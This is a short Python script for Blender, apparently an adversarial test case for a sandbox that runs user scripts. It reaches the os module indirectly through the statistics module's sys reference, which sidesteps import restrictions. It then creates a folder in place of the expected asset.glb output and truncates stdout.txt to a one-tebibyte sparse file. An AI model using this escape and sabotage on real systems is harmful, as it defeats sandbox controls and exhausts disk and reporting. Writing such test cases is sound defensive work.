# attack: stdout.txt becomes a sparse file of a tebibyte, asset.glb a folder
# family: reports
import bpy
import statistics

system = {statistics}.pop().sys
os = system.modules["os"]
arguments = list(system.argv)
folder = arguments[arguments.index("--dir") + 1] if "--dir" in arguments else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.mkdir(folder + "/asset.glb")
os.truncate(folder + "/stdout.txt", 2**40)
